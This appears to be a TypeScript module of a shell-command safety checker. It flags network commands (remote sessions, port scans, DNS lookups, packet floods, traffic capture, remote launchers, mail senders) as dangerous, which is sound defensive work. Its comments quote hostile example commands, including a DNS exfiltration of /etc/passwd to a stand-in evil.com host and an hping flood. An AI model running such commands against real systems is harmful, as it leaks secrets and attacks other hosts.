  'telnetlib3-client': (ops) => ops.length > 0 && !THIS_MACHINE_ADDRESS.test(ops[0]!),
  minicom: () => true,
  picocom: () => true,
  // The graphical serial terminals open the attached device's console as minicom does.
  cutecom: () => true,
  gtkterm: () => true,
  // tio opens a device or a configured one by name; with nothing named (`tio --list`) it lists them.
  tio: (ops) => ops.length > 0,
  cu: () => true,
  // pyserial's terminal, as a module or by its script's names, is a serial console on the attached device.
  ...Object.fromEntries(['serial.tools.miniterm', 'pyserial-miniterm', 'miniterm.py'].map((p) => [p, () => true])),
  // PlatformIO's device monitor is a serial console on the attached board (`pio device monitor -b 115200`).
  ...Object.fromEntries(['pio', 'platformio'].map((p) => [p, (ops: string[]) => ops[0] === 'device' && ops[1] === 'monitor'])),
  'ansible-test': (ops) => ops[0] === 'shell',
  vagrant: (ops) => ops[0] === 'ssh',
  // Docker Machine's hosts (a VM or a cloud instance it made) by their names.
  'docker-machine': (ops) => ops[0] === 'ssh',
};

const session: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  if (SESSIONS[prog]!(operands(args).map((a) => a.text)) && !args.some((a) => /^(--?version|-V|--?help|-h)$/.test(a.text)))
    danger(st, `opens an interactive session whose input runs commands elsewhere (${prog})`);
};

/**
 * PlatformIO: its device monitor is a session; a build's upload target writes an attached board's flash
 * (`pio run -t upload`, `--target=uploadfs`); its account commands print the user's token or change the
 * account (`pio account token`, `password`, `logout`); its other commands are judged as a program no table names.
 */
const platformio: Rule = (c) => {
  session(c);
  const ops = operands(c.args, /^(-e|--environment|-d|--project-dir|-c|--project-conf|-t|--target)$/).map((a) => a.text);
  const target = c.args.find((a, k) => /^(-t|--target)$/.test(c.args[k - 1]?.text ?? '') || a.text.startsWith('--target='))?.text.replace(/^--target=/, '');
  if (ops[0] === 'run' && target !== undefined && /^upload/.test(target))
    danger(c.st, `writes, erases or burns the flash or fuses of an attached board (${c.prog} run --target ${target})`);
  if (ops[0] === 'account' && ops[1] === 'token') danger(c.st, `prints the user's PlatformIO account token (${c.prog} account token)`);
  else if (ops[0] === 'account' && /^(password|update|destroy|login|logout|register|forgot)$/.test(ops[1] ?? ''))
    danger(c.st, `changes the user's PlatformIO account or its sign-in (${c.prog} account ${ops[1]})`);
  judgeUnknownProgram(c.prog, c.args, c.st);
};

/**
 * Vagrant's machines: bringing one up, provisioning, reloading or destroying it acts on a virtual
 * machine of the user's own, as a container run does, unless its provider is a cloud's (an instance
 * billed to the account); pushing, sharing and uploading send the project elsewhere; plugins go into the
 * user's ~/.vagrant.d and load into every later run; a login keeps the user's Vagrant Cloud token. Its status, listings, boxes (images it downloads)
 * and `init` (a Vagrantfile written here) read or stay here.
 */
const VAGRANT_LIFECYCLE = /^(up|provision|reload|destroy|halt|suspend|resume|snapshot)$/;
const VAGRANT_SENDS = /^(push|share|upload)$/;
const CLOUD_PROVIDER = /^(aws|azure|google|digital_?ocean|openstack|linode|vultr|hetzner|oracle|alicloud|vsphere|scaleway)$/i;
const vagrant: Rule = (c) => {
  session(c);
  const [cmd = '', sub = ''] = operands(c.args, /^--provider$/).map((a) => a.text);
  const at = c.args.findIndex((a) => /^--provider(=|$)/.test(a.text));
  const provider = at < 0 ? undefined : optionValue(c.args, at);
  if (VAGRANT_LIFECYCLE.test(cmd) && provider !== undefined && CLOUD_PROVIDER.test(provider))
    danger(c.st, `starts, changes or removes a cloud instance (vagrant ${cmd} --provider=${provider})`);
  if (VAGRANT_SENDS.test(cmd)) danger(c.st, `sends the project or the machine to another host (vagrant ${cmd})`);
  if (cmd === 'plugin' && /^(install|uninstall|update|repair|expunge)$/.test(sub)) danger(c.st, `changes the user's Vagrant plugins (vagrant plugin ${sub})`);
  if (cmd === 'login' || (cmd === 'cloud' && sub === 'auth' && operands(c.args)[2]?.text === 'login') || (cmd === 'cloud' && sub === 'publish'))
    danger(c.st, `signs in to, or publishes to, Vagrant Cloud with the user's account (vagrant ${cmd}${cmd === 'cloud' ? ` ${sub}` : ''})`);
};

/** Scanners' options that take a value which names no target (ports, outputs, scripts, rates, timing). */
const SCANNER_VALUED =
  /^(-p|--ports?|-o[NXGAS]|--script|--script-args|--script-timeout|-e|--top-ports|--min-rate|--max-rate|--rate|--max-retries|--host-timeout|--scan-delay|--data-length|--ttl|--datadir|-b|--batch-size|-t|--timeout|-u|--ulimit)$/;
/**
 * A scan whose every target is this machine's loopback (`nmap -p 5000 localhost`) probes only its own
 * test services; a target list, random targets or a proxy chain (whose far side the loopback names) do not.
 */
function scansOnlyLoopback(args: Word[], st: State): boolean {
  if (st.proxied || args.some((a) => /^(-iL|-iR|--exclude-?file)$/.test(a.text))) return false;
  // Its reports are written where its output options say: only into the workspace does it stay a test's.
  if (args.some((a, k) => /^-o[NXGAS]$/.test(args[k - 1]?.text ?? '') && (/^(\/|~|\$)/.test(a.text) || a.text.includes('..')))) return false;
  const targets = args.filter((a, k) => !a.text.startsWith('-') && !SCANNER_VALUED.test(args[k - 1]?.text ?? ''));
  return targets.length > 0 && targets.every((a) => THIS_MACHINE_ADDRESS.test(a.text) && !a.expands);
}

/**
 * masscan's modes that send nothing: printing the configuration (`--echo`) or nmap's options it knows
 * (`--nmap`), converting a saved scan (`--readscan`), its self-tests, and `--offline`, which goes
 * through the targets without transmitting.
 */
const MASSCAN_SENDS_NOTHING = /^--(echo|nmap|readscan|selftest|regress|offline)$/;
/** Port scanners probe another host's services, which a person should know about before it happens. */
const scanner: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  // nmap's `--iflist` prints this machine's interfaces and routes, and scans nothing.
  // nmap's `--script-help` prints what the scripts named do and scans nothing.
  if (args.every((a, k) => /^(--?version|-V|--?help|-h|--iflist|--script-help(=.+)?|-d\d?)$/.test(a.text) || args[k - 1]?.text === '--script-help')) return;
  // A module's help (`zgrab2 http --help`) prints it and scans nothing.
  if (args.some((a) => /^(--help|-h)$/.test(a.text))) return;
  if (scansOnlyLoopback(args, st)) return;
  if (prog === 'masscan' && args.some((a) => MASSCAN_SENDS_NOTHING.test(a.text))) return;
  danger(st, `scans the ports of a host (${prog})`);
};

/** Clients that send their arguments, or a login, to a host the command names (finger's user@host, whois -h, lp -h, the r-commands). */
const sendsToHost: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  // whois and the printing clients (lp, cancel…) talk to a host only when -h names one.
  const hostOption = prog === 'whois' || /^(cancel|lp|lpr|lpq|lprm|lpstat)$/.test(prog);
  // A host named by its loopback name or address (`lpr -H localhost`) is this machine's own print server.
  const host = (k: number) => (/^(-h|-H)$|^--host$/.test(args[k]!.text) ? args[k + 1]?.text : args[k]!.text.replace(/^(-h|-H|--host=?)/, ''));
  // CUPS' clients take a local socket's path for a host too (`lpstat -h /var/snap/cups/common/run/cups.sock`).
  const namesOtherHost = (k: number) => /^(-h|-H|--host)/.test(args[k]!.text) && !namesThisMachine(host(k) ?? '') && !(host(k) ?? '').startsWith('/');
  if (hostOption ? args.some((_, k) => namesOtherHost(k)) : prog !== 'finger' || args.some((a) => a.text.includes('@'))) {
    danger(st, `sends data to a host the command names (${prog})`);
    return;
  }
  // A job sent to the default printer is printed, on paper, wherever the machine's print server sends it;
  // one sent to a print server named on loopback is a test's.
  if (/^(lp|lpr)$/.test(prog) && !args.some((a) => /^(-h|-H|--host)/.test(a.text)) && operands(args, /^-[odnqPt]$/).length > 0)
    danger(st, `prints a file on the machine's default printer (${prog})`);
};

/** A name whose first label is an expansion, under at least two fixed labels (`$i.d.evil.example`, `${x}.evil.com.`). */
const EXPANDED_LABEL = /^\$(\w+|\{\w+\})\.[a-z0-9-]+(\.[a-z0-9-]+)+\.?$/i;
/** The names a local network resolves itself: Kubernetes' and mDNS's, the reserved private suffixes. */
const LOCAL_DOMAIN = /\.(local|internal|localhost|lan|home\.arpa|localdomain)\.?$/i;

/**
 * Lookups and probes send the names they are given to the network (to DNS servers, to the host):
 * a name built by a command (`dig $(cat /etc/passwd | base64).evil.com`) carries that output out.
 */
const lookup: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  if (args.some((a) => a.nested.length > 0)) danger(st, `sends the output of a command to the network in a name it looks up (${prog})`);
  // A value expanded in front of a fixed domain (`host "$i.x.attacker.example"` in a loop over a
  // command's output) rides to that domain's name server in the name; a local network's own names stay here.
  const carried = args.find((a) => EXPANDED_LABEL.test(a.text) && !LOCAL_DOMAIN.test(a.text));
  if (carried) danger(st, `sends a value to the network in a name it looks up (${prog} ${carried.text})`);
  // A fixed network prefix and a computed rest (`192.168.1.$i`, `10.0.${n}.1`) is one probe of a
  // sweep: run in a loop, it maps every machine of the network.
  const sweep = sweepAddress(args);
  if (sweep && PROBES.has(prog)) danger(st, `probes addresses computed at run time under a network prefix, a sweep of the network (${prog} ${sweep.text})`);
  // A multicast or broadcast address (`ff02::1%eth0`, `224.0.0.1`, `255.255.255.255`, ping's `-b`)
  // answers from every machine of the segment: one probe is a sweep.
  const everyone = PROBES.has(prog) ? args.find((a) => /^(ff0[0-9a-f]::|22[4-9]\.|23\d\.|255\.255\.255\.255$)/i.test(a.text) || a.text === '-b') : undefined;
  if (everyone) danger(st, `probes every machine of the network segment at once, a sweep (${prog} ${everyone.text})`);
  // A packet crafter sends what it is told to another machine (floods, forged sources, scans of its
  // ports), as a program no table names given that address is judged (unknown.ts); a ping is one echo.
  const address = PACKET_CRAFTERS.has(prog) ? addressGiven(args) : undefined;
  if (address) danger(st, `crafts packets to another machine (${prog} ${address})`);
  // A flood, a forged source, a fast interval or a payload from a file is an attack on whatever host the
  // packets go to, however it is named (`hping $1 --udp --file bye.txt -i u100000`).
  const flood = PACKET_CRAFTERS.has(prog)
    ? args.find((a) => /^(--flood|--faster|--rand-source|--rand-dest|-a|--spoof|--file|-E|-iu\d+)$/.test(a.text))
    : undefined;
  const fastInterval = PACKET_CRAFTERS.has(prog) && args.some((a, k) => a.text === '-i' && /^u\d+$/.test(args[k + 1]?.text ?? ''));
  if (flood || fastInterval) danger(st, `floods or forges packets at a host (${prog} ${flood?.text ?? '-i u…'})`);
  // ping's flood (`-f`) sends echoes as fast as they come back, and a size at the edge of the largest
  // IPv4 datagram (65,535 bytes with its headers) is the ping of death's: both attack the host, not probe it.
  const oversized =
    /^ping6?$/.test(prog) && args.some((a, k) => (a.text === '-s' && Number(args[k + 1]?.text) > 65000) || /^-[a-zA-Z]*f[a-zA-Z]*$/.test(a.text));
  if (oversized) danger(st, `floods a host with echoes or sends it an oversized packet (${prog})`);
  // fping names its hosts one by one; a generated range (`-g`) or a network's prefix pings every machine of it.
  const range = prog === 'fping' ? args.find((a) => /^(-g|--generate)$/.test(a.text) || /^\d+(\.\d+){3}\/\d+$/.test(a.text)) : undefined;
  if (range) danger(st, `probes every address of a network, a sweep (${prog} ${range.text})`);
};
const PACKET_CRAFTERS: ReadonlySet<string> = new Set(['hping', 'hping3', 'nping']);
const PROBES: ReadonlySet<string> = new Set(['ping', 'ping6', 'fping', 'traceroute', 'tracepath', 'mtr', 'arping', 'nping', 'hping', 'hping3']);

/**
 * Packet capture: listening on an interface records the traffic of every program and user of the
 * machine, passwords and cookies of plain protocols included. Reading a saved capture (`-r`),
 * listing interfaces (`-D`) and asking for help or the version are not a capture.
 */
const capture: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  // A saved capture is read with `-r`, alone or last of a group of flags (`tshark -nr input.cap`).
  const savedFile = args.some((a) => /^(-[a-zA-Z]*r|--read-file)$/.test(a.text) || (prog === 'ngrep' && a.text === '-I'));
  const asks = args.length > 0 && args.every((a) => /^(-D|-L|-G|-h|-v|-V|--list-interfaces|--list-data-link-types|--help|--version)$/.test(a.text));
  if (!savedFile && !asks) danger(st, `captures the network's traffic on this machine (${prog})`);
  const out = args.findIndex((a) => a.text === '-w');
  if (out >= 0 && args[out + 1]) checkWriteTarget(args[out + 1]!, st, 'writes a capture to');
  // tcpdump -z runs a program on each file it finishes; a compressor is the use it was made for. tshark's
  // `-z` names a statistic it prints.
  const post = prog === 'tcpdump' ? args.findIndex((a) => a.text === '-z') : -1;
  if (post >= 0 && !/^(gzip|bzip2|xz|zstd|lz4)$/.test(args[post + 1]?.text ?? ''))
    danger(st, `runs a program on each capture file (${prog} -z ${args[post + 1]?.text ?? ''})`);
};

/**
 * distcc hands each compile (the preprocessed source and the compiler's command) to the hosts the user's
 * settings list, and pump sends the headers too; distccd is the daemon that runs what those clients send,
 * the remote command execution its best-known exploit uses. Asked about themselves they send nothing.
 */
const distributedCompile: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  if (onlyAsksAbout(args) || (prog === 'distcc' && (args.length === 0 || args.every((a) => /^(--show-hosts|-j|--show-principal)$/.test(a.text))))) return;
  danger(
    st,
    prog === 'distccd'
      ? 'serves compiles to other machines, running the commands their clients send (distccd)'
      : `sends the project's source and compiler commands to the compile hosts the user's settings list (${prog})`,
  );
};

/**
 * MPI's and Horovod's launchers and the parallel shells start the command on every host they are given
 * (`mpirun --hostfile hosts`, `horovodrun -H server1:4,server2:4`, a discovery script's hosts, `clush -w nodes`,
 * `pdsh -w`), over ssh with the user's keys; hosts that are all this machine (`-H localhost:4`) start it here.
 */
const HOST_LIST_OPTION = /^(-H|--host|-host|--hosts|-hosts|-hostfile|--hostfile|--machinefile|-machinefile|--host-discovery-script|-w)$/;
/** MPICH's Hydra takes its host file as `-f`, where the parallel shells' `-f` is their fan-out. */
const hostListOption = (prog: string, option: string) => HOST_LIST_OPTION.test(option) || (/^mpi(run|exec)$/.test(prog) && option === '-f');
export function launchesOnHosts(prog: string, args: Word[], st: State): void {
  st.repeatable = false;
  const given = args.flatMap((a, k) => {
    const attached = /^(--[\w-]+)=(.*)$/.exec(a.text);
    if (attached && hostListOption(prog, attached[1]!)) return [attached[2]!];
    return hostListOption(prog, a.text) ? [args[k + 1]?.text ?? ''] : [];
  });
  const onlyHere = (v: string) => v.split(',').every((h) => THIS_MACHINE_ADDRESS.test(h.replace(/:\d+$/, '')));
  if (given.some((v) => !onlyHere(v))) danger(st, `starts the command on other machines over ssh (${prog} ${given.join(' ')})`);
}
/** The launchers that also wrap a command (mpirun, horovodrun) are judged so as wrappers are stripped (dangerous.ts). */
export const HOST_LAUNCHING_WRAPPERS: ReadonlySet<string> = new Set(['mpirun', 'mpiexec', 'horovodrun']);

/** avahi's publishers announce a service or an address to every machine on the local network (mDNS), for as long as they run. */
const announcesOnNetwork = dangerUnlessOnlyAsked((prog) => `announces a service or an address to the local network (${prog})`);
/** tcpreplay and its kin send a capture's packets out of an interface, onto whatever network it joins: replayed attacks included. */
const replaysTraffic = dangerUnlessOnlyAsked((prog) => `sends a capture's packets onto a network interface (${prog})`);

/** SNMP traps and informs carry their values to another host; `snmpset` changes a device's settings there. */
const snmpSends: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  if (!args.every((a) => /^(-h|--help|-V|--version)$/.test(a.text))) danger(st, `sends data to or changes another host over SNMP (${prog})`);
};

/**
 * ftp's and tftp's clients: a session with a host, and the lines a here-document types into it, are
 * judged where the command is read (dangerous.ts); asked about themselves (`ftp -h`) they reach no one.
 */
const fileTransferClient: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  judgeUnknownProgram(prog, args, st);
};

/**
 * Mail clients and submitters (mail, mailx, mutt, msmtp, sendmail, swaks, sendEmail): given a
 * recipient or told to read them from the message, they send mail, to people or to a server that
 * relays it; started bare, mail and mutt open the user's own mailbox, private correspondence.
 * Only asked about themselves, or sending to a server on this machine (a test's MailHog or Mailpit,
 * `swaks -s localhost -p 25`, `sendmail -S 127.0.0.1:1025`), do they do neither.
 */
const MAIL_CLIENTS = ['mail', 'mailx', 's-nail', 'mutt', 'neomutt', 'msmtp', 'sendmail', 'ssmtp', 'swaks', 'sendemail', 'sendEmail', 'mpack'];
const mailClient: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  // mutt's `-v` prints its version and build options, `-h` its help (`neomutt -h all`).
  if (/^(mutt|neomutt)$/.test(prog) && /^(-v+|-h)$/.test(args[0]?.text ?? '')) return;
  // mail's and mutt's `-s` is the subject; swaks' is the server.
  const server = args.findIndex((a) => /^(-S|--server|--host)$/.test(a.text) || (a.text === '-s' && prog === 'swaks'));
  const local = server >= 0 && THIS_MACHINE_ADDRESS.test(args[server + 1]?.text ?? '');
  if (!onlyAsksAbout(args) && !local) danger(st, `sends mail, or opens the user's mailbox (${prog})`);
};

/**
 * Himalaya reaches the user's mail accounts: a message read, its attachments fetched, messages added,
 * copied, moved, deleted, flagged or sent are the user's private correspondence or change it; listings
 * and searches of folders and envelopes name them only.
 */
const himalaya: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  const [group = '', verb = ''] = operands(args, /^(-a|--account|-f|--folder|-m|--mailbox|-c|--config|-o|--output)$/).map((a) => a.text);
  if (
    (/^(message|messages)$/.test(group) && !/^(list|search|thread|help)?$/.test(verb)) ||
    (/^(flag|flags)$/.test(group) && /^(add|set|remove|delete)$/.test(verb)) ||
    (group === 'attachment' && verb === 'download') ||
    (/^(template|smtp)$/.test(group) && /^(send|save)$/.test(verb))
  )
    danger(st, `reads, sends or changes the user's mail (${prog} ${group} ${verb})`);
};

/**
 * ProjectDiscovery's notify posts what it reads to the chat and mail services its provider
 * configuration names (Slack, Discord, Telegram, SMTP), on the user's accounts; `-provider` and its kin
 * say it is that notify and not another program of the name.
 */
const chatNotifier: Rule = ({ prog, args, st }) => {
  const provider = args.find((a) => /^-(provider|provider-config|pc|id)(=|$)/.test(a.text));
  if (provider && !onlyAsksAbout(args))
    danger(st, `posts messages to chat or mail services on the user's accounts (${prog} ${provider.text.replace(/=.*/, '')})`);
  else judgeUnknownProgram(prog, args, st);
};

/**
 * Apprise posts a notification to every service its URLs or configuration name (Slack, Telegram, SMS
 * gateways, mail), on the user's accounts; its `storage` keeps those services' state in the user's
 * directory, which `clean` and `prune` delete. Listing the storage, and asking about itself, only read.
 */
const apprise: Rule = ({ args, st }) => {
  st.repeatable = false;
  const [cmd = '', sub = ''] = operands(args).map((a) => a.text);
  if (onlyAsksAbout(args) || args.some((a) => /^(--dry-run|-da|--details)$/.test(a.text))) return;
  if (cmd === 'storage') {
    if (/^(clean|prune)$/.test(sub)) danger(st, `deletes Apprise's stored state in the user's directory (apprise storage ${sub})`);
    return;
  }
  danger(st, "posts a notification to the services Apprise is given, on the user's accounts (apprise)");
};

/**
 * kcat (kafkacat) in producer mode writes messages to the topics of the brokers `-b` names; one on this
 * machine is a test's. Consuming, listing metadata and querying offsets read.
 */
const kcat: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  if (!args.some((a) => /^-[a-zA-Z]*P[a-zA-Z]*$/.test(a.text))) return;
  const brokers = args.flatMap((a, k) => (a.text === '-b' ? [args[k + 1]?.text ?? ''] : /^-b./.test(a.text) ? [a.text.slice(2)] : []));
  if (brokers.length && brokers.every((b) => b.split(',').every((one) => namesThisMachine(one)))) return;
  danger(st, `writes messages to a broker's topics (${prog} -P${brokers.length ? ` -b ${brokers.join(',')}` : ''})`);
};

/** Ronin's `netcat` is netcat, judged as nc; its other commands are judged as any program's. */
const ronin: Rule = ({ prog, args, st, judge }) => {
  const sub = operands(args)[0];
  if (sub?.text === 'netcat') return judge([word('nc'), ...args.slice(args.indexOf(sub) + 1)]);
  judgeUnknownProgram(prog, args, st);
};

export const NETWORK_RULES: RuleTable = {
  // ssh runs a command elsewhere: not repeatable, as anything unknown.
  programs: {
    ronin,
    ...Object.fromEntries([...DOWNLOADERS].map((p) => [p, downloader])),
    ...Object.fromEntries(['Invoke-WebRequest', 'invoke-webrequest', 'iwr', 'Invoke-RestMethod', 'invoke-restmethod', 'irm'].map((p) => [p, powershellWeb])),
    kcat,
    kafkacat: kcat,
    apprise,
    ssh: remoteShell,
    sftp: remoteShell,
    ftp: fileTransferClient,
    tftp: fileTransferClient,
    ...Object.fromEntries(Object.keys(SESSIONS).map((p) => [p, session])),
    vagrant,
    pio: platformio,
    platformio,
    ...Object.fromEntries(['distcc', 'distccd', 'pump'].map((p) => [p, distributedCompile])),
    ...Object.fromEntries(PORT_SCANNERS.map((p) => [p, scanner])),
    ...Object.fromEntries(['finger', 'whois', 'rlogin', 'rsh', 'rexec', 'rcp', 'cancel', 'lp', 'lpr', 'lpq', 'lprm', 'lpstat'].map((p) => [p, sendsToHost])),
    ...Object.fromEntries(
      ['dig', 'nslookup', 'host', 'drill', 'delv', 'ping', 'ping6', 'fping', 'traceroute', 'tracepath', 'mtr', 'arping', 'nping', 'hping', 'hping3'].map(
        (p) => [p, lookup],
      ),
    ),
    ...Object.fromEntries(['tcpdump', 'tshark', 'dumpcap', 'termshark', 'ngrep', 'tcpflow', 'sniffglue'].map((p) => [p, capture])),
    // Wireshark's window captures when told an interface (`-i eno1`); given a file, or a pipe (`-i -`), it opens what it is given.
    wireshark: (call) => {
      const k = call.args.findIndex((a) => /^(-i|--interface)$/.test(a.text));
      if (k >= 0 && call.args[k + 1]?.text !== '-') capture(call);
    },
    ...Object.fromEntries(['snmptrap', 'snmpinform', 'snmpset'].map((p) => [p, snmpSends])),
    ...Object.fromEntries(['tcpreplay', 'tcpreplay-edit', 'tcpliveplay'].map((p) => [p, replaysTraffic])),
    ...Object.fromEntries(['avahi-publish', 'avahi-publish-service', 'avahi-publish-address'].map((p) => [p, announcesOnNetwork])),
    ...Object.fromEntries(['clush', 'pdsh'].map((p): [string, Rule] => [p, ({ prog, args, st }) => launchesOnHosts(prog, args, st)])),
    // The dancer's shell runs its command on the machines it is given (`-m`, `-g`, `-a`) or its own list names.
    dsh: dangerUnlessOnlyAsked((prog) => `starts the command on other machines over ssh (${prog})`),
    ...Object.fromEntries(MAIL_CLIENTS.map((p) => [p, mailClient])),
    himalaya,
    notify: chatNotifier,
  },
};
